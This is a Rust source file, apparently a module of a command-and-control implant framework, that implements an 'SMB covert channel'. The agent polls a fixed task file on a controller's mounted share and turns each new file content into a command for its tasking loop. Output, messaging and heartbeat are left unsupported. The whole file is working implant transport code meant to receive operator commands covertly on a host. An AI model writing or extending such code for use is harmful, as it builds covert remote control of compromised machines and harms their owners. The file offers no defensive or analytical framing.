//! SMB covert channel
//!
//! Asymmetric by design: the controller's TASKS share is a one-way mailbox
//! exposing a fixed task file, and there is no write-back path. The share is
//! consumed through its mounted path; SMB framing itself belongs to the
//! host's SMB client and is out of scope here.
//!
//! A task surfaces through `poll_commands` as a single command. The mailbox
//! contents are remembered so an unchanged file is not re-issued on every
//! polling cycle.

use std::path::PathBuf;

use async_trait::async_trait;
use tokio::sync::Mutex;

use sk_core::error::ChannelError;
use sk_core::types::{Command, CommandResult, TransportKind};

use crate::{Capabilities, CovertChannel};

/// SMB task-mailbox channel
pub struct SmbChannel {
    agent_id: String,
    task_path: PathBuf,
    /// Last task contents already handed to the tasking loop
    last_task: Mutex<Option<String>>,
}

impl SmbChannel {
    /// Create an SMB channel reading `task_file` under the mounted
    /// `share_path`.
    pub fn new(share_path: &str, task_file: &str, agent_id: &str) -> Self {
        Self {
            agent_id: agent_id.to_string(),
            task_path: PathBuf::from(share_path).join(task_file),
            last_task: Mutex::new(None),
        }
    }

    /// Read the fixed task file from the share.
    ///
    /// This is the variant's only retrieval operation; an absent or
    /// unreadable file is a transient condition, not an error.
    pub async fn fetch_task(&self) -> Result<String, ChannelError> {
        let contents = tokio::fs::read_to_string(&self.task_path)
            .await
            .map_err(|e| ChannelError::Network(format!("task file read: {}", e)))?;
        Ok(contents.trim().to_string())
    }

    async fn try_poll(&self) -> Result<Vec<Command>, ChannelError> {
        let task = self.fetch_task().await?;
        if task.is_empty() {
            return Ok(Vec::new());
        }

        let mut last = self.last_task.lock().await;
        if last.as_deref() == Some(task.as_str()) {
            // Mailbox unchanged since the last cycle
            return Ok(Vec::new());
        }
        *last = Some(task.clone());
        Ok(vec![Command::new(task)])
    }
}

#[async_trait]
impl CovertChannel for SmbChannel {
    fn kind(&self) -> TransportKind {
        TransportKind::Smb
    }

    fn capabilities(&self) -> Capabilities {
        Capabilities {
            messaging: false,
            polling: true,
            output: false,
            heartbeat: false,
        }
    }

    async fn send_message(&self, _message: &str) -> String {
        // No write-back path exists on this transport
        tracing::debug!("SMB send_message not supported");
        String::new()
    }

    async fn poll_commands(&self) -> Vec<Command> {
        match self.try_poll().await {
            Ok(commands) => commands,
            Err(e) => {
                tracing::warn!(agent_id = %self.agent_id, "SMB task retrieval failed: {}", e);
                Vec::new()
            }
        }
    }

    async fn send_output(&self, _result: &CommandResult) -> bool {
        tracing::debug!("SMB output reporting not supported");
        false
    }

    async fn heartbeat(&self) -> bool {
        tracing::debug!("SMB heartbeat not supported");
        false
    }
}
